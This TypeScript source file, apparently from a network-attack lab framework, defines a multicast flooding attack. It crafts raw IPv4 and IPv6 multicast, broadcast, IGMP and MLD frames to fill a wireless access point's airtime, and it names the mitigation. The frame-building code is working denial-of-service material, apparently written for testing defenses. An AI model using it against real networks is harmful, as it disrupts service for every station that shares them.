// SPDX-License-Identifier: Apache-2.0
import { broadcast, bytes, concat, ethernet, groupMac, icmp6, ip, packet, udp } from "../../lab/packet.ts";
import type { Attack } from "../attack.ts";
import { flooded, offset, uncheckedUdp, type Scene, type Wave } from "../flooding.ts";

const STREAM = "239.1.0.0";
const PAYLOAD = new Uint8Array(200);

export function waves({ attacker, network }: Scene): Wave[] {
  const four = (to: string, group: string): Uint8Array => ethernet({ from: attacker.mac, to }, 0x0800, uncheckedUdp(attacker.v4, group, { from: 5000, to: 5000 }, PAYLOAD));
  const six = (group: string): Uint8Array => ethernet({ from: attacker.mac, to: groupMac(group) }, 0x86dd, udp(attacker.v6, group, { from: 5000, to: 5000 }, PAYLOAD));
  const report = concat([bytes(0x16, 0, 0, 0), ip(STREAM)]);
  const listener = concat([bytes(131, 0, 0, 0, 0, 0, 0, 0), ip("ff05::1:3")]);
  return [
    { what: "ever new groups", frame: four(groupMac(STREAM), STREAM), countingAt: offset.ip4Destination },
    { what: "a group of IPv6", frame: six("ff05::1:3"), countingAt: offset.ip6Source - 8 },
    { what: "all nodes", frame: six("ff02::1") },
    { what: "everybody", frame: four(broadcast, network.broadcast4), countingAt: offset.port4From },
    { what: "reports of ever new groups by IGMP", frame: ethernet({ from: attacker.mac, to: groupMac(STREAM) }, 0x0800, packet(attacker.v4, STREAM, 2, report, 1)), countingAt: 40 },
    { what: "reports of ever new groups by MLD", frame: ethernet({ from: attacker.mac, to: groupMac("ff05::1:3") }, 0x86dd, icmp6(attacker.v6, "ff05::1:3", listener, 1)), countingAt: 76 },
  ];
}

export const floodMulticast: Attack = {
  slug: "flood-multicast",
  needs: "a place on the network",
  gains: "the access point sends each frame to all, at the lowest rate or once for each station: the air is full",
  stoppedBy: "group frames of a station go nowhere but where a rule lets discovery pass, with a meter for each device",
  takesVictim: true,
  run: (field) => flooded(field, waves(field)),
};
